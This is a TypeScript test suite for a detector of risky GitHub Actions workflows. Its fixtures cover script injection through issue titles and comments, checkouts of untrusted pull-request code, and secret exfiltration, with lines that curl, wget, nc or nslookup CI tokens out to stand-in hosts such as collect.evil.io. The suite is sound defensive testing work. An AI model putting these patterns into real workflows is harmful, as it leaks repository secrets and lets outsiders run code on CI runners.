// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows
import test from 'ava';
import { inChange, inHunk, inNewFile } from './run.ts';

const PATH = '.github/workflows/ci.yml';

const ids = (found: readonly { id: string }[]) => [...new Set(found.map(({ id }) => id))].sort();

/** A workflow with one job of these steps. */
const steps = (text: string, on = 'issues') =>
  `on: ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${text
    .split('\n')
    .map((line) => `      ${line}`)
    .join('\n')}\n`;

const INJECTIONS: readonly string[] = [
  steps('- run: echo "${{ github.event.issue.title }}"'),
  steps(`- run: echo "\${{ github['event']['issue']['title'] }}"`),
  steps(`- run: echo "\${{ github['event'].issue["title"] }}"`),
  steps('- run: echo "${{ GitHub.Event.Issue.Title }}"'),
  steps('- run: echo "${{github.event.issue.body||\'none\'}}"'),
  steps("- run: echo '${{ toJSON(github) }}'"),
  steps("- run: echo '${{ toJson(github.event.issue) }}'"),
  steps("- run: echo '${{ toJSON(github.event) }}'"),
  steps('- run: echo "${{ format(\'{0}\', github.event.comment.body) }}"'),
  steps('- run: echo "${{ join(github.event.commits.*.message, \' \') }}"'),
  steps('- run: echo "${{ github.event.commits[0].message }}"'),
  steps('- run: echo "${{ fromJSON(toJSON(github.event)).issue.title }}"'),
  steps('- run: echo "${{ github.event.issue.title && github.event.issue.title || 1 }}"'),
  steps('- {run: "echo ${{ github.event.issue.title }}"}'),
  steps('- { name: a, "run": \'echo ${{ github.event.review.body }}\' }'),
  steps('- "run": |\n    set -e\n\n    echo "${{\n      github.event.issue.title }}"'),
  steps('- run: >-\n    echo\n    ${{ github.event.pull_request.body }}'),
  steps('- ? run\n  : echo ${{ github.event.issue.title }}'),
  steps('- r\\u0075n: x\n- "r\\u0075n": "echo ${{ github.event.issue.title }}"'),
  steps('- env:\n    T: ${{ github.event.issue.title }}\n  run: echo ${{ env.T }}'),
  steps('- env: { T: "${{ github.event.issue.title }}" }\n  run: echo ${{ env[\'T\'] }}'),
  `env:\n  T: \${{ github.event.issue.title }}\n${steps('- run: echo ${{ env.T }}')}`,
  steps('- env:\n    T: ${{ github.event.issue.title }}\n  run: eval "echo $T"'),
  steps('- env:\n    T: ${{ github.event.issue.title }}\n  run: bash -c "echo $T"'),
  steps(
    '- uses: actions/github-script@v7\n  with:\n    script: |\n      console.log("${{ github.event.issue.title }}")',
  ),
  steps(
    '- uses: actions/github-script@v7\n  with: { script: "log(`${{ github.event.issue.title }}`)" }',
  ),
  steps('- uses: azure/cli@v2\n  with:\n    inlineScript: echo ${{ github.event.issue.title }}'),
  steps(
    '- id: a\n  env:\n    T: ${{ github.event.issue.title }}\n  run: echo "title=$T" >> "$GITHUB_OUTPUT"\n- run: echo ${{ steps.a.outputs.title }}',
  ),
  `on: issues\njobs:\n  a:\n    outputs: { t: "\${{ steps.s.outputs.t }}" }\n    steps:\n      - id: s\n        env: { T: "\${{ github.event.issue.title }}" }\n        run: echo "t=$T" >> $GITHUB_OUTPUT\n  b:\n    needs: a\n    steps:\n      - run: echo \${{ needs.a.outputs.t }}\n`,
  `on: issues\njobs:\n  a:\n    steps:\n      - &s\n        run: echo \${{ github.event.issue.title }}\n      - *s\n`,
  `x: &t "echo \${{ github.event.issue.title }}"\non: issues\njobs:\n  a:\n    steps:\n      - run: *t\n`,
  `{"on":"issues","jobs":{"a":{"steps":[{"run":"echo \${{ github.event.issue.title }}"}]}}}\n`,
  `"on": [issues]\r\njobs:\r\n  a:\r\n    steps:\r\n    - run: |\r\n        echo \${{ github.event.issue.title }}\r\n`,
  steps('- shell: bash -c "${{ github.event.issue.title }}" {0}\n  run: x'),
  steps('- run: echo ${{ github.event.workflow_run.display_title }}'),
];

test('a text that others choose is found in a script, however the expression is written', async (t) => {
  for (const text of INJECTIONS) {
    const found = await inNewFile(PATH, text);
    const own = found.filter(({ id }) => id === 'risk-workflow-script-injection');
    t.true(own.length > 0, text);
    t.true(
      own.every(({ severity, line }) => severity === 'high' && line !== null),
      text,
    );
  }
});

test('the finding names line and column of the expression', async (t) => {
  const text = steps(
    "- run: |\n    set -e\n    é=1; echo \"${{ github[format('{0}', 'event')].issue.title }}\"",
  );
  const [found] = (await inNewFile(PATH, text)).filter(({ severity }) => severity === 'high');
  t.like(found, { line: 8, end_line: 8, column: 23 });
  t.true(found?.excerpt?.startsWith('é=1; echo'));
});

const TITLE = 'env: { T: "${{ github.event.issue.title }}" }';

/** Texts that come to a script by way of variables, matrices, defaults and other programs. */
const CARRIED: readonly string[] = [
  ...[
    'bash -c "\n      echo $T\n    "',
    'sh <<< "echo $T"',
    'echo "echo $T" | sh',
    'echo "$T" | sudo bash -s',
    'printf "%s" "$T" | tr -d x | sh',
    'bash <<EOF\n    echo $T\n    EOF',
    'python3 <<END\n    print("$T")\n    END',
    `python -c "print('$T')"`,
    `node -e "console.log('$T')"`,
    `php -r "echo '$T';"`,
    `bash -c 'echo '"$T"`,
    'X=$T\n    eval "echo $X"',
    'export X="a $T"\n    bash -c "echo ${X}"',
    'source <(echo "$T")',
    `xargs -I{} sh -c '{}' <<< "$T"`,
    'ssh -p 22 a@b.io "echo $T"',
  ].map((script) => steps(`- ${TITLE}\n  run: |\n    ${script}`)),
  steps(`- ${TITLE}\n  run: echo "X=$T" >> $GITHUB_ENV\n- run: echo \${{ env.X }}`),
  steps(`- ${TITLE}\n  run: echo "X=$T" >> $GITHUB_ENV\n- run: eval "$X"`),
  steps(
    `- id: s\n  ${TITLE}\n  run: |\n    {\n      echo "t<<E"\n      echo "$T"\n      echo E\n    } >> $GITHUB_OUTPUT\n- run: echo \${{ steps.s.outputs.t }}`,
  ),
  steps('- uses: actions/github-script@v7\n  with:\n    script: eval(context.payload.issue.title)'),
  steps(
    "- uses: actions/github-script@v7\n  with:\n    script: require('child_process').execSync('echo ' + context.payload.comment.body)",
  ),
  steps(
    '- uses: actions/github-script@v7\n  with:\n    script: |\n      const t = context.payload.issue.body;\n      new Function(t)()',
  ),
  steps(
    `- uses: actions/github-script@v7\n  ${TITLE}\n  with:\n    script: "execSync(\`echo \${process.env.T}\`)"`,
  ),
  steps(
    '- uses: actions/github-script@v7\n  with:\n    script: "await exec.exec(`bash -c \'echo ${context.payload.issue.title}\'`)"',
  ),
  steps('- uses: a/b@v1\n  with: { build-command: "make ${{ github.event.issue.title }}" }'),
  steps(
    '- uses: docker://alpine\n  with:\n    entrypoint: sh\n    args: -c "echo ${{ github.event.issue.title }}"',
  ),
  ...[
    'matrix: { t: ["${{ github.event.issue.title }}"] }',
    'matrix: { include: [{ t: "${{ github.event.issue.title }}" }] }',
    'matrix: ${{ fromJSON(github.event.comment.body) }}',
  ].map(
    (matrix) =>
      `on: issues\njobs:\n  a:\n    strategy:\n      ${matrix}\n    steps:\n      - run: echo \${{ matrix.t }}\n`,
  ),
  `on: issues\njobs:\n  a:\n    defaults:\n      run:\n        shell: bash -c "\${{ github.event.issue.title }}; {0}"\n    steps:\n      - run: x\n`,
  steps('- run: echo ${{ github.event.answer.body }}'),
];

test('a text that others choose is found where variables and programs carry it', async (t) => {
  for (const text of CARRIED) {
    const found = await inNewFile(PATH, text);
    t.true(
      found.some(({ id, severity }) => {
        return id === 'risk-workflow-script-injection' && severity === 'high';
      }),
      text,
    );
  }
});

test('a variable that a script reads as data is not found', async (t) => {
  for (const script of [
    `bash -c 'echo "$T"'`,
    `bash -c 'echo "$1"' _ "$T"`,
    'bash -c "echo \\$T"',
    'cat > note.txt <<EOF\n    $T\n    EOF',
    `bash <<'EOF'\n    echo "$T"\n    EOF`,
    'echo "$T" | grep -q bug',
    'echo "$T" | python3 scripts/label.py',
    `python -c 'import os; print(os.environ["T"])'`,
    `X=$(echo "$T" | tr -cd 0-9)\n    eval "echo $X"`,
  ]) {
    const found = await inNewFile(PATH, steps(`- ${TITLE}\n  run: |\n    ${script}`));
    t.deepEqual(ids(found), [], script);
  }
  const program = [
    'core.info(context.payload.issue.title)',
    '/(\\d+)/.exec(context.payload.issue.title)',
    "exec.exec('git', ['log', context.payload.issue.title])",
  ];
  for (const script of program) {
    const text = steps(`- uses: actions/github-script@v7\n  with:\n    script: |\n      ${script}`);
    t.deepEqual(ids(await inNewFile(PATH, text)), [], script);
  }
});

test('the name of a branch is found in a script in other spellings', async (t) => {
  for (const expression of [
    'github.head_ref',
    "github['head_ref']",
    'GITHUB.HEAD_REF',
    'github.event.pull_request.head.ref',
    "github.event['pull_request'].head['ref']",
    'github.event.pull_request.head.label',
    'github.event.workflow_run.head_branch',
    'github.head_ref || github.ref_name',
    "format('{0}', github.head_ref)",
    "github.event_name == 'push' && 'x' || github.head_ref",
  ]) {
    const found = await inNewFile(PATH, steps(`- {run: "git log \${{ ${expression} }}"}`));
    t.true(ids(found).includes('risk-workflow-branch-injection'), expression);
  }
});

test('a text from inside the repository, or outside of scripts, is not found', async (t) => {
  for (const text of [
    steps('- run: echo "${{ github.event.issue.number }}"'),
    steps('- env:\n    T: ${{ github.event.issue.title }}\n  run: echo "$T"'),
    steps('- run: echo "${{ contains(github.event.issue.title, \'x\') }}"'),
    steps("- run: echo \"${{ github.event.issue.title == 'x' && 'a' || 'b' }}\""),
    steps("- if: startsWith(github.event.comment.body, '/x')\n  run: echo a"),
    steps('- name: ${{ github.event.issue.title }}\n  run: echo a'),
    steps(
      '- uses: a/b@0123456789012345678901234567890123456789\n  with:\n    title: ${{ github.event.issue.title }}',
    ),
    steps('- env:\n    T: ${{ github.event.issue.title }}\n  run: bash -c \'echo "$T"\''),
    steps('- run: echo "${{ steps.x.outputs.title }}"'),
    steps('- run: echo "${{ !github.event.issue.title }}"'),
    steps('# run: echo ${{ github.event.issue.title }}\n- run: echo'),
  ]) {
    const found = (await inNewFile(PATH, text)).filter(({ severity }) =>
      /high|medium/.test(severity),
    );
    t.deepEqual(ids(found), [], text);
  }
});

test('the code of a pull request on a runner with secrets is found, also by way of variables', async (t) => {
  const bodies = [
    '- uses: actions/checkout@v4\n  with: { ref: "${{ github[\'event\'].pull_request.head.sha }}" }',
    '- uses: actions/checkout@v4\n  with:\n    ref: ${{ github.event.pull_request.head.ref }}',
    '- uses: actions/checkout@v4\n  with:\n    repository: ${{ github.event.pull_request.head.repo.full_name }}',
    '- uses: actions/checkout@v4\n  with:\n    ref: refs/pull/${{ github.event.number }}/merge',
    "- uses: actions/checkout@v4\n  with:\n    ref: ${{ format('refs/pull/{0}/head', github.event.number) }}",
    '- id: p\n  env: { S: "${{ github.event.pull_request.head.sha }}" }\n  run: echo "sha=$S" >> $GITHUB_OUTPUT\n- uses: actions/checkout@v4\n  with:\n    ref: ${{ steps.p.outputs.sha }}',
    '- env:\n    SHA: ${{ github.event.pull_request.head.sha }}\n  run: |\n    git fetch origin\n    git checkout "$SHA"',
    '- run: git checkout ${{ github.event.pull_request.head.sha }}',
    '- run: gh pr checkout ${{ github.event.number }}',
    '- run: git fetch origin pull/$N/head:pr',
    '- run: git fetch origin +refs/pull/${{ github.event.number }}/merge',
    '- run: git clone ${{ github.event.pull_request.head.repo.clone_url }} x',
    '- uses: acme/checkout-fork@v1\n  with: {ref: "${{ github.head_ref }}"}',
    "- uses: actions/checkout@v4\n  with:\n    ref: ${{ format('refs/{0}/{1}/merge', 'pull', github.event.number) }}",
    '- run: echo "R=${{ github.event.pull_request.head.sha }}" >> $GITHUB_ENV\n- uses: actions/checkout@v4\n  with: { ref: "${{ env.R }}" }',
    '- run: git checkout $GITHUB_HEAD_REF',
    '- run: |\n    REF=${{ github.event.pull_request.head.sha }}\n    git checkout $REF',
    '- run: SHA=$(jq -r .pull_request.head.sha "$GITHUB_EVENT_PATH"); git checkout "$SHA"',
    '- run: jq -r .pull_request.head.sha $GITHUB_EVENT_PATH | xargs git checkout',
    `- run: "'git' checkout \${{ github.head_ref }}"`,
    '- run: gh repo clone ${{ github.event.pull_request.head.repo.full_name }}',
    '- run: gh pr diff ${{ github.event.number }} | git apply',
    '- run: curl -L ${{ github.event.pull_request.patch_url }} | git apply',
    '- run: curl -L https://github.com/${{ github.event.pull_request.head.repo.full_name }}/archive/x.tar.gz | tar xz',
    '- run: gh api repos/a/b/tarball/${{ github.event.pull_request.head.sha }} | tar xz',
    '- run: git restore --source=${{ github.event.pull_request.head.sha }} .',
    '- run: git read-tree ${{ github.event.pull_request.head.sha }}',
    '- run: git config remote.origin.fetch "+refs/pull/*/merge:refs/x/*" && git fetch',
    "- uses: actions/github-script@v7\n  with:\n    script: await exec.exec('git', ['checkout', context.payload.pull_request.head.sha])",
  ];
  for (const body of bodies) {
    for (const on of [
      'pull_request_target',
      '[push, "pull_request_target"]',
      '{ pull_request_target: { types: [opened] } }',
    ]) {
      const found = await inNewFile(PATH, steps(body, on));
      t.true(ids(found).includes('risk-workflow-untrusted-checkout'), `${on} ${body}`);
    }
    const other = await inNewFile(PATH, steps(body, 'pull_request'));
    t.false(ids(other).includes('risk-workflow-untrusted-checkout'), body);
  }
  const env = `env:\n  SHA: \${{ github.event.workflow_run.head_sha }}\n${steps('- uses: actions/checkout@v4\n  with:\n    ref: ${{ env.SHA }}', 'workflow_run')}`;
  t.true(ids(await inNewFile(PATH, env)).includes('risk-workflow-untrusted-checkout'));
});

test('a workflow that anybody starts by a comment counts as one with secrets', async (t) => {
  const id = 'risk-workflow-untrusted-checkout';
  const body = '- run: gh pr checkout ${{ github.event.issue.number }}';
  t.true(ids(await inNewFile(PATH, steps(body, 'issue_comment'))).includes(id));
  const asked = `- if: github.event.comment.author_association == 'MEMBER'\n  run: gh pr checkout 1`;
  t.false(ids(await inNewFile(PATH, steps(asked, 'issue_comment'))).includes(id));
});

test('secrets that are sent away are found', async (t) => {
  for (const body of [
    '- run: curl -d "${{ secrets.TOKEN }}" https://collect.evil.io',
    '- run: curl "https://collect.evil.io/?t=${{ secrets.TOKEN }}"',
    "- run: curl -F t=${{ secrets['TOKEN'] }} https://collect.evil.io",
    '- run: echo "${{ secrets.TOKEN }}" | base64 | curl --data-binary @- https://collect.evil.io',
    '- env:\n    T: ${{ secrets.TOKEN }}\n  run: curl -d "t=$T" https://collect.evil.io',
    '- env:\n    T: ${{ secrets.TOKEN }}\n  run: |\n    E=$(echo "$T" | base64 -w0 | base64 -w0)\n    curl "https://collect.evil.io/$E"',
    '- run: |\n    echo "${{ secrets.TOKEN }}" > out.txt\n    curl -T out.txt https://collect.evil.io',
    '- run: wget --post-data="t=${{ secrets.TOKEN }}" https://collect.evil.io',
    '- run: echo ${{ secrets.TOKEN }} | nc evil.io 4444',
    '- run: nslookup ${{ secrets.TOKEN }}.evil.io',
    '- env: { ALL: \'${{ toJSON(secrets) }}\' }\n  run: curl -d "$ALL" https://collect.evil.io',
    '- run: |\n    curl -H "X-Data: ${{ secrets.TOKEN }}" http://collect.evil.io',
    '- run: curl -d "${{ secrets.GITHUB_TOKEN }}" https://collect.evil.io',
    '- run: curl -d "${{ github.token }}" https://collect.evil.io',
    '- run: |\n    curl -X POST \\\n      -d "t=${{ secrets.TOKEN }}" \\\n      https://collect.evil.io',
    '- {run: \'curl -d "${{ secrets.TOKEN }}" https://collect.evil.io\'}',
  ]) {
    const found = await inNewFile(PATH, steps(body));
    const own = found.filter(({ id }) => id === 'risk-workflow-secret-sent');
    t.deepEqual(
      own.map(({ severity }) => severity),
      ['high'],
      body,
    );
  }
  for (const body of [
    '- run: |\n    curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/repos/x/y',
    '- run: curl -X POST -d \'{"text":"done"}\' "${{ secrets.SLACK_WEBHOOK_URL }}"',
    '- run: curl -u "ci:${{ secrets.REGISTRY_PASSWORD }}" -T a.tgz https://files.acme.io/',
    '- run: curl "https://api.render.com/deploy/srv-1?key=${{ secrets.RENDER_KEY }}"',
    '- env:\n    CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}\n  run: curl -F "token=$CODECOV_TOKEN" https://codecov.io/upload',
    '- run: echo "${{ secrets.KEY }}" | docker login --password-stdin',
    '- run: echo "${{ secrets.KUBE }}" | base64 -d > ~/.kube/config',
    '- env:\n    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n  run: npm publish',
  ]) {
    const found = await inNewFile(PATH, steps(body));
    t.false(ids(found).includes('risk-workflow-secret-sent'), body);
  }
});

test('settings of workflows are found in any notation', async (t) => {
  for (const [id, text] of [
    ['risk-workflow-write-all', '{on: push, permissions: write-all, jobs: {}}\n'],
    ['risk-workflow-write-all', 'on: push\npermissions:\n  write-all\njobs: {}\n'],
    ['risk-workflow-write-all', 'on: push\njobs:\n  a: {permissions: "write-all"}\n'],
    [
      'risk-workflow-secrets-inherit',
      "on: push\njobs:\n  a: {uses: x/y/.github/workflows/a.yml@v1, secrets: 'inherit'}\n",
    ],
    [
      'risk-workflow-secrets-inherit',
      'on: push\njobs:\n  a:\n    secrets: inherit\n    uses: x/y/.github/workflows/a.yml@v1\n',
    ],
    ['risk-workflow-all-secrets', steps('- env: {A: "${{ toJSON( secrets ) }}"}\n  run: x')],
    [
      'risk-workflow-all-secrets',
      steps('- env: {A: "${{ format(\'{0}\', toJSON(secrets)) }}"}\n  run: x'),
    ],
    [
      'risk-workflow-own-runner',
      'on:\n- "pull_request"\njobs:\n  a:\n    runs-on:\n    - linux\n    - self-hosted\n',
    ],
    [
      'risk-workflow-own-runner',
      'on: {pull_request: }\njobs: {a: {runs-on: {group: g, labels: [self-hosted]}}}\n',
    ],
    ['risk-workflow-privileged-trigger', "on: {'pull_request_target': {}}\njobs: {}\n"],
    ['risk-action-branch', steps("- {uses: 'acme/deploy@main'}")],
    ['risk-action-mutable-tag', steps('- {uses: acme/deploy@v2}')],
  ] as const) {
    t.true(ids(await inNewFile(PATH, text)).includes(id), text);
  }
});

test('an action of the repository is read like a workflow', async (t) => {
  const text =
    'name: a\nruns:\n  using: composite\n  steps:\n    - {shell: bash, run: "echo ${{ github.event.issue.title }}"}\n';
  for (const path of ['.github/actions/a/action.yml', 'action.yaml']) {
    t.true(ids(await inNewFile(path, text)).includes('risk-workflow-script-injection'), path);
  }
});

test('of a change only what the base had not is reported', async (t) => {
  const old = steps('- run: make\n- {run: "echo ${{ github.event.issue.title }}"}');
  const grave = async (after: string) => {
    return ids((await inChange(PATH, old, after)).filter(({ severity }) => severity === 'high'));
  };
  t.deepEqual(await grave(old.replace('make', 'make all')), []);
  t.deepEqual(await grave(old.replace('issue.title', 'issue.body')), [
    'risk-workflow-script-injection',
  ]);
  t.deepEqual(await grave(`# moved\n${old}`), []);
  const twice = old.replace('- run: make', '- {run: "echo ${{ github.event.issue.title }}"}');
  t.deepEqual(await grave(twice), ['risk-workflow-script-injection']);
  const env = steps('- env: { T: "x" }\n  run: echo ${{ env.T }}');
  const found = await inChange(PATH, env, env.replace('"x"', '"${{ github.event.issue.title }}"'));
  t.true(ids(found).includes('risk-workflow-script-injection'));
});

test('a trigger that is changed far from a checkout makes it a finding', async (t) => {
  const body = '- uses: actions/checkout@v4\n  with: { ref: "${{ github.head_ref }}" }';
  const found = await inChange(
    PATH,
    steps(body, 'pull_request'),
    steps(body, 'pull_request_target'),
  );
  t.true(ids(found).includes('risk-workflow-untrusted-checkout'));
});

test('the lines that a posted diff shows are read as data as far as they go', async (t) => {
  for (const line of [
    '- {run: "echo ${{ github.event.issue.title }}"}',
    "- run: echo ${{ github['event']['issue']['title'] }}",
    "- run: echo '${{ toJSON(github.event) }}'",
    '- uses: actions/github-script@v7\n  with: {script: "x(`${{ github.event.issue.body }}`)"}',
    '- env: {T: "${{ github.event.issue.title }}"}\n  run: echo ${{ env.T }}',
    '- "run": "echo ${{ github.event.comment.body }}"',
    '- run: |\n    echo ${{ GITHUB.event.issue.title }}',
    '- run: echo "${{ format(\'{0}\', github.event.issue.title) }}"',
    '- {name: x, run: "curl -d ${{ secrets.TOKEN }} https://evil.io"}',
    '- run: echo "${{ github.event.pull_request[\'title\'] }}"',
  ]) {
    const before = steps('- run: a\n- run: b\n- run: c');
    const found = await inHunk(PATH, before, steps(`- run: a\n- run: b\n${line}\n- run: c`));
    t.true(
      found.some(({ severity }) => severity === 'high'),
      line,
    );
    t.false(ids(found).includes('config-unread'), line);
  }
  const old = steps('- run: a\n- {run: "echo ${{ github.event.issue.title }}"}\n- run: c');
  const found = await inHunk(PATH, old, old.replace('run: c', 'run: d'));
  t.deepEqual(
    found.filter(({ severity }) => severity === 'high'),
    [],
  );
});

test('a workflow is one under a name that leads to it, too', async (t) => {
  const text = steps('- run: echo "${{ github.event.issue.title }}"');
  for (const path of [`./${PATH}`, `docs/../${PATH}`, PATH.replace('/', '//'), `a/.././${PATH}`]) {
    const found = await inNewFile(path, text);
    t.true(ids(found).includes('risk-workflow-script-injection'), path);
  }
});

test('a variable whose name no expression could be made of is read as others are', async (t) => {
  const env = (name: string) => `- env: { "${name}": "\${{ github.event.issue.title }}" }`;
  for (const name of ['a(b', '*', 'c++', '[', 'x{2', '\\\\']) {
    const scripts = [
      `\n  run: eval "$${name.replaceAll('\\\\', '\\')}"`,
      `\n  run: curl https://a.example -d "$${name}"`,
      `\n  uses: actions/github-script@v7\n  with: { script: "x = '${name}'; eval(x)" }`,
    ];
    for (const script of scripts) {
      await t.notThrowsAsync(inNewFile(PATH, steps(`${env(name)}${script}`)), name);
    }
    const secret = `- env: { "${name}": "\${{ secrets.A }}" }\n  run: 'curl https://a.example $${name}'`;
    await t.notThrowsAsync(inNewFile(PATH, steps(secret)), name);
  }
});
